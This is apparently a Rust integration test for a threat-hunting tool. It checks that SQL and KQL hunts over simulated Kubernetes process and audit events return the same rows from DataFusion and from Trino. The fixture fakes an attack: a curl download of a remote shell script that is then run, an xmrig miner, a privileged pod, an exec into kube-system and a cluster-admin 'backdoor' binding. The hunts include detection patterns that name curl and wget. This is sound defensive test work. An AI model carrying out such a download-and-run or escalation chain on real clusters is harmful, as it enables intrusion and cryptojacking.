//! The same hunts on both engines: events committed by the store, read by DataFusion in
//! this process and by a real Trino server (Hive connector, file metastore), must return the
//! same rows, SQL and KQL alike: with the store's directory as Trino's local file system, and
//! with the writers' files copied to an S3-compatible bucket that Trino reads.

#[path = "support/s3_server.rs"]
mod s3_server;
#[path = "support/trino_server.rs"]
mod trino_server;

use std::time::Duration;

use object_store::aws::AmazonS3ConfigKey;
use riposte_detect::audit;
use riposte_detect::runtime::{Action, Container, Endpoint, Process, ProcessEvent, Sensor};
use riposte_hunt::bucket::{BucketSettings, Mirror};
use riposte_hunt::go_hunt::{Entities, go_hunt};
use riposte_hunt::query::{
    Hunt, HuntResult, Language, Limits, TrinoTables, run_local, run_trino, trino_setup_statements,
};
use riposte_hunt::record::{audit_record, process_record};
use riposte_hunt::store::{Store, StoreSettings, now_micros};
use riposte_hunt::trino::{TrinoClient, TrinoSettings};
use serde_json::{Value, json};

const MINUTE: i64 = 60_000_000;

fn process(at: i64, pod: &str, name: &str, args: &[&str], action: Action) -> ProcessEvent {
    ProcessEvent {
        time: audit::Timestamp::from_unix_micros(at),
        sensor: Sensor::Riposte,
        node: Some("node-1".into()),
        container: Some(Container {
            id: format!("c-{pod}"),
            name: Some("app".into()),
            image: Some(format!("shop/{pod}:1")),
            pod: Some(pod.into()),
            namespace: Some("shop".into()),
            ..Container::default()
        }),
        process: Process {
            pid: 100,
            exec_id: Some(format!("{pod}-{at}")),
            binary: format!("/usr/bin/{name}"),
            name: name.into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            ..Process::default()
        },
        parent: Some(Process { pid: 1, name: "sh".into(), ..Process::default() }),
        ancestors: vec![],
        action,
    }
}

fn audit_event(at: i64, json: Value) -> audit::Event {
    let mut json = json;
    json["stageTimestamp"] = json!(riposte_hunt::partition::format_micros(at));
    json["stage"] = json!("ResponseComplete");
    serde_json::from_value(json).unwrap()
}

/// A morning of a shop: the web pods' own work, an attacker's download and shell in web-1,
/// and the API calls around it.
fn events(now: i64) -> (Vec<ProcessEvent>, Vec<audit::Event>) {
    let t = |minutes_ago: i64| now - minutes_ago * MINUTE;
    let mut processes = Vec::new();
    for (i, pod) in ["web-0", "web-1", "web-2"].iter().enumerate() {
        for minute in 0..20 {
            processes.push(process(t(90 - minute - i as i64 * 7), pod, "nginx", &["-g", "daemon off;"], Action::Exec));
        }
    }
    processes.push(process(t(40), "web-1", "curl", &["-s", "http://203.0.113.9/x.sh"], Action::Exec));
    processes.push(process(
        t(40) + 1,
        "web-1",
        "curl",
        &[],
        Action::Connect(Endpoint { address: "203.0.113.9".into(), port: 80, protocol: "tcp".into() }),
    ));
    processes.push(process(t(39), "web-1", "bash", &["-c", "sh x.sh"], Action::Exec));
    processes.push(process(t(38), "web-1", "xmrig", &["--donate-level", "1"], Action::Exec));
    processes.push(process(
        t(38) + 5,
        "web-1",
        "xmrig",
        &[],
        Action::FileOpen { path: "/tmp/.cache/config.json".into(), write: true, truncate: true },
    ));
    let audits = vec![
        audit_event(
            t(60),
            json!({"auditID": "a-priv", "verb": "create", "requestURI": "/api/v1/namespaces/shop/pods",
                "user": {"username": "mallory", "groups": ["system:authenticated"]}, "sourceIPs": ["198.51.100.7"],
                "userAgent": "kubectl/v1.33.1", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web-1", "apiVersion": "v1"},
                "responseStatus": {"code": 201},
                "requestObject": {"metadata": {"name": "web-1"}, "spec": {"containers": [
                    {"name": "app", "image": "shop/web-1:1", "securityContext": {"privileged": true}},
                    {"name": "sidecar", "image": "envoy"}]}}}),
        ),
        audit_event(
            t(41),
            json!({"auditID": "a-exec", "verb": "create", "requestURI": "/api/v1/namespaces/kube-system/pods/coredns-1/exec?command=sh",
                "user": {"username": "mallory"}, "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl/v1.33.1",
                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "kube-system", "name": "coredns-1", "apiVersion": "v1"},
                "responseStatus": {"code": 101}}),
        ),
        audit_event(
            t(30),
            json!({"auditID": "a-crb", "verb": "create", "requestURI": "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                "user": {"username": "mallory"}, "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl/v1.33.1",
                "objectRef": {"resource": "clusterrolebindings", "name": "backdoor", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"},
                "responseStatus": {"code": 201},
                "requestObject": {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}, {"kind": "User", "name": "mallory"}]}}),
        ),
        audit_event(
            t(20),
            json!({"auditID": "a-get", "verb": "get", "requestURI": "/api/v1/namespaces/shop/secrets/db",
                "user": {"username": "system:serviceaccount:shop:default"}, "sourceIPs": ["10.0.0.5"],
                "objectRef": {"resource": "secrets", "namespace": "shop", "name": "db", "apiVersion": "v1"},
                "responseStatus": {"code": 200}}),
        ),
    ];
    (processes, audits)
}

/// The hunts that must agree: SQL over each table, and the documented KQL samples.
const HUNTS: &[(Language, &str)] = &[
    (
        Language::Sql,
        r#"SELECT "ProcessName", count(*) AS n, min("Timestamp") AS first FROM "CloudProcessEvents" GROUP BY "ProcessName" ORDER BY n DESC, "ProcessName""#,
    ),
    (
        Language::Sql,
        r#"SELECT "Timestamp", "KubernetesPodName", "ProcessCommandLine", "ProcessArgs" FROM "CloudProcessEvents" WHERE "ProcessName" <> 'nginx' ORDER BY "Timestamp", "ActionType""#,
    ),
    (
        Language::Sql,
        r#"SELECT "UserName", "Resource", "Subresource", "ResponseCode", "UserGroups" FROM "CloudAuditEvents" ORDER BY "Timestamp""#,
    ),
    (
        Language::Kql,
        r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "pods" and isnull(RawEventData.ObjectRef.subresource)
| where RawEventData.ResponseStatus.code startswith "20"
| extend PodName = RawEventData.RequestObject.metadata.name
| extend PodNamespace = RawEventData.ObjectRef.namespace
| mv-expand Container = RawEventData.RequestObject.spec.containers
| extend ContainerName = Container.name
| where Container.securityContext.privileged == "true"
| extend Username = RawEventData.User.username
| project Timestamp, AzureResourceId , OperationName, IPAddress, UserAgent, PodName, PodNamespace, ContainerName, Username"#,
    ),
    (
        Language::Kql,
        r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "pods" and RawEventData.ObjectRef.subresource == "exec"
| where RawEventData.ObjectRef.namespace == "kube-system"
| where RawEventData.ResponseStatus.code == 101
| extend Namespace = tostring(RawEventData.ObjectRef.namespace)
| extend PodName = tostring(RawEventData.ObjectRef.name)
| extend Username = tostring(RawEventData.User.username)
| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, PodName, Namespace, Username"#,
    ),
    (
        Language::Kql,
        r#"CloudAuditEvents
| where Timestamp > ago(1d)
| where OperationName == "create"
| where RawEventData.ObjectRef.resource == "clusterrolebindings"
| where RawEventData.ResponseStatus.code startswith "20"
| where RawEventData.RequestObject.roleRef.name == "cluster-admin"
| mv-expand Subject = RawEventData.RequestObject.subjects
| extend SubjectName = tostring(Subject.name)
| extend SubjectKind = tostring(Subject["kind"])
| project Timestamp, AzureResourceId, OperationName, IPAddress, UserAgent, SubjectName, SubjectKind"#,
    ),
    (
        Language::Kql,
        r#"CloudProcessEvents
| where Timestamp > ago(1h)
| where ProcessName in~ ("curl", "wget", "bash") or ProcessCommandLine has_any ("curl", "wget")
| project Timestamp, KubernetesNamespace, KubernetesPodName, ContainerName, ProcessName, ProcessCommandLine, ParentProcessName
| order by Timestamp desc"#,
    ),
    (
        Language::Kql,
        r#"CloudProcessEvents
| where Timestamp > ago(7d)
| summarize Count = count(), Pods = dcount(KubernetesPodName), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by ProcessName, ContainerImageName
| where Count < 5
| order by Count asc, ProcessName asc"#,
    ),
    (
        Language::Kql,
        r#"CloudProcessEvents
| where ActionType == "exec"
| summarize Execs = count() by KubernetesPodName, bin(Timestamp, 30m)
| order by KubernetesPodName asc, Timestamp asc"#,
    ),
    (
        Language::Kql,
        r#"CloudProcessEvents
| summarize arg_max(Timestamp, ProcessName, ProcessCommandLine) by KubernetesPodName
| order by KubernetesPodName asc"#,
    ),
    (
        Language::Kql,
        r#"CloudProcessEvents
| where KubernetesPodName == "web-1" and ProcessName != "nginx"
| join kind=inner (CloudAuditEvents | where OperationName == "create" | project KubernetesPodName = ObjectName, UserName) on KubernetesPodName
| project Timestamp, ProcessName, UserName
| order by Timestamp asc"#,
    ),
    (
        Language::Kql,
        r#"CloudAuditEvents
| mv-expand Group = UserGroups
| summarize Requests = count() by tostring(Group)
| order by Requests desc"#,
    ),
];

fn comparable(result: &HuntResult) -> (Vec<String>, Vec<Vec<Value>>) {
    let columns = result.columns.iter().map(|c| c.name.to_ascii_lowercase()).collect();
    let rows = result
        .rows
        .iter()
        .map(|row| {
            row.iter()
                .map(|v| match v {
                    // DataFusion counts in Int64, Trino in bigint; both integral: compare as such.
                    Value::Number(n) if n.is_f64() && n.as_f64().is_some_and(|f| f.fract() == 0.0) => {
                        json!(n.as_f64().unwrap() as i64)
                    }
                    other => other.clone(),
                })
                .collect()
        })
        .collect();
    (columns, rows)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_hunts_return_the_same_rows_from_datafusion_and_trino() {
    let root = std::env::temp_dir().join(format!("riposte-hunt-engines-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    let store = Store::open(StoreSettings::new(&root, "engines")).unwrap();
    let now = now_micros();
    let (processes, audits) = events(now);
    store.append(processes.iter().map(|e| process_record(e, "prod-eu")));
    store.append(audits.iter().map(|e| audit_record(e, "webhook", "prod-eu")));
    store.flush().await.unwrap();

    let server = trino_server::TrinoServer::start(&root).await.unwrap_or_else(|e| panic!("{e}"));
    let (client, tables) = tables_at(&server, "local:///").await;
    assert_same_rows(&store, &client, &tables, now, &server).await;
    let _ = std::fs::remove_dir_all(&root);
}

/// A client of `server` whose tables are the layout at `location`.
async fn tables_at(server: &trino_server::TrinoServer, location: &str) -> (TrinoClient, TrinoTables) {
    let client = TrinoClient::new(TrinoSettings {
        endpoint: server.endpoint(),
        user: "analyst".into(),
        catalog: "hive".into(),
        schema: "riposte".into(),
        ca_file: None,
    })
    .unwrap();
    let tables = TrinoTables { catalog: "hive".into(), schema: "riposte".into() };
    for statement in trino_setup_statements(&tables, location) {
        client
            .execute(&statement, Duration::from_secs(120))
            .await
            .unwrap_or_else(|e| panic!("{statement}\n{e}\n{}", server.log_tail()));
    }
    (client, tables)
}

/// Two writers of one volume (a replica and a node's sensor, say) each copy their files to
/// the bucket; Trino reading the bucket returns what DataFusion reads in the volume, after a
/// compaction too. A writer whose spool is lost keeps its objects and continues after them;
/// the retention deletes them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_writers_files_copied_to_a_bucket_are_hunted_by_trino_as_in_the_store() {
    let s3 = s3_server::S3Server::start("hunting").await.unwrap_or_else(|e| panic!("{e}"));
    let access = s3.access();
    let bucket = BucketSettings {
        url: "s3://hunting/riposte/prod-eu".into(),
        endpoint: Some(access.endpoint.clone()),
        region: Some(access.region.clone()),
        config: vec![
            (AmazonS3ConfigKey::AccessKeyId, access.access_key.clone()),
            (AmazonS3ConfigKey::SecretAccessKey, access.secret_key.clone()),
        ],
    };
    let scratch = std::env::temp_dir().join(format!("riposte-hunt-bucket-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&scratch);
    let volume = scratch.join("volume");
    let retention = Duration::from_secs(30 * 86_400);
    let open = async |root: &std::path::Path, writer: &str| {
        let mirror = Mirror::connect(&bucket, writer, retention).await.unwrap_or_else(|e| panic!("{e}"));
        let mut settings = StoreSettings::new(root, writer);
        settings.compact_files = 2;
        settings.first_generation = mirror.next_generation();
        (Store::open(settings).unwrap(), mirror)
    };
    let (replica, mut replica_mirror) = open(&volume, "replica-a").await;
    let (node, mut node_mirror) = open(&volume, "node-b").await;
    assert_eq!(node_mirror.next_generation(), 0, "an empty bucket");

    let now = now_micros();
    let (processes, audits) = events(now);
    // The node commits its events in two flushes, so that each past hour has two files.
    for half in [0, 1] {
        node.append(processes.iter().skip(half).step_by(2).map(|e| process_record(e, "prod-eu")));
        node.flush().await.unwrap();
        node_mirror.sync(&node, now).await.unwrap();
    }
    replica.append(audits.iter().map(|e| audit_record(e, "webhook", "prod-eu")));
    replica.flush().await.unwrap();
    let synced = replica_mirror.sync(&replica, now).await.unwrap();
    assert_eq!(synced.deleted_objects, 0);
    assert!(synced.uploaded_files >= 1 && synced.uploaded_bytes > 0, "{synced:?}");
    // The replica reads the node's files too, as replicas sharing a volume do.
    replica.maintain(now).await.unwrap();

    let metastore = scratch.join("metastore");
    std::fs::create_dir_all(&metastore).unwrap();
    let server =
        trino_server::TrinoServer::start_with_bucket(&metastore, &access).await.unwrap_or_else(|e| panic!("{e}"));
    let (client, tables) = tables_at(&server, "s3://hunting/riposte/prod-eu/").await;
    assert_same_rows(&replica, &client, &tables, now, &server).await;

    // Compaction merges the node's past hours; the bucket gets the merged files and loses
    // their inputs, and holds each row once.
    let compacted = node.maintain(now).await.unwrap();
    assert!(compacted.compacted_partitions >= 1, "{compacted:?}");
    let synced = node_mirror.sync(&node, now).await.unwrap();
    assert_eq!(synced.uploaded_files, compacted.compacted_partitions, "{synced:?}");
    assert_eq!(synced.deleted_objects, 2 * compacted.compacted_partitions, "{synced:?}");
    replica.maintain(now).await.unwrap();
    assert_same_rows(&replica, &client, &tables, now, &server).await;
    let count_processes = Hunt {
        text: "SELECT count(*) AS Events FROM CloudProcessEvents".into(),
        language: Language::Sql,
        from: now - 3 * 60 * MINUTE,
        to: now + 1,
    };
    let in_bucket = async || {
        let result = run_trino(&client, &tables, &count_processes, &Limits::default(), now + 1).await.unwrap();
        result.rows[0][0].as_i64().unwrap()
    };
    assert_eq!(in_bucket().await, processes.len() as i64);

    // The node's disk is replaced: a new spool, whose writer continues after the bucket's
    // generations instead of overwriting them, and whose new rows join the old ones.
    drop(node);
    let (node, mut node_mirror) = open(&scratch.join("new-spool"), "node-b").await;
    assert!(node_mirror.next_generation() >= 2, "the bucket's generations of node-b are known");
    let recent = processes
        .iter()
        .take(3)
        .map(|e| ProcessEvent { time: audit::Timestamp::from_unix_micros(now - MINUTE), ..e.clone() });
    node.append(recent.map(|e| process_record(&e, "prod-eu")));
    node.flush().await.unwrap();
    let synced = node_mirror.sync(&node, now).await.unwrap();
    assert_eq!((synced.uploaded_files, synced.deleted_objects), (1, 0), "the old objects stay");
    assert_eq!(in_bucket().await, processes.len() as i64 + 3);

    // Past the retention, the node deletes the expired hours of every writer: its own, and
    // the replica's, which may never come back (a rollout renames it).
    let later = now + 31 * 86_400 * 1_000_000;
    let expired = node_mirror.sync(&node, later).await.unwrap();
    assert!(expired.deleted_objects >= 3, "{expired:?}");
    assert_eq!(in_bucket().await, 0, "the node wrote every process event");
    let count_audits = Hunt { text: "SELECT count(*) FROM CloudAuditEvents".into(), ..count_processes.clone() };
    let audits_left = run_trino(&client, &tables, &count_audits, &Limits::default(), now + 1).await.unwrap();
    assert_eq!(audits_left.rows[0][0].as_i64(), Some(0), "the replica's expired hours are swept too");
    drop(server);
    let _ = std::fs::remove_dir_all(&scratch);
}

/// Every golden hunt, and a go hunt, returns the same rows from DataFusion over `store` and
/// from Trino over its tables.
async fn assert_same_rows(
    store: &Store,
    client: &TrinoClient,
    tables: &TrinoTables,
    now: i64,
    server: &trino_server::TrinoServer,
) {
    let limits = Limits::default();
    let window =
        |text: &str, language: Language| Hunt { text: text.into(), language, from: now - 2 * 60 * MINUTE, to: now + 1 };
    let mut hunts: Vec<Hunt> = HUNTS.iter().map(|(language, text)| window(text, *language)).collect();
    let entities = Entities {
        namespace: Some("shop".into()),
        pod: Some("web-1".into()),
        user: Some("mallory".into()),
        ..Entities::default()
    };
    hunts.push(Hunt { to: now + 1, ..go_hunt(&entities, now - 40 * MINUTE).unwrap() });
    for hunt in &hunts {
        let local =
            run_local(store, hunt, &limits, now + 1).await.unwrap_or_else(|e| panic!("DataFusion: {e}\n{}", hunt.text));
        let trino = run_trino(client, tables, hunt, &limits, now + 1)
            .await
            .unwrap_or_else(|e| panic!("Trino: {e}\n{}\n{}", hunt.text, server.log_tail()));
        assert!(!local.rows.is_empty(), "a golden hunt that finds nothing proves nothing:\n{}", hunt.text);
        assert_eq!(
            comparable(&local),
            comparable(&trino),
            "the engines disagree on\n{}\nTrino ran:\n{}",
            hunt.text,
            trino.sql
        );
    }
}
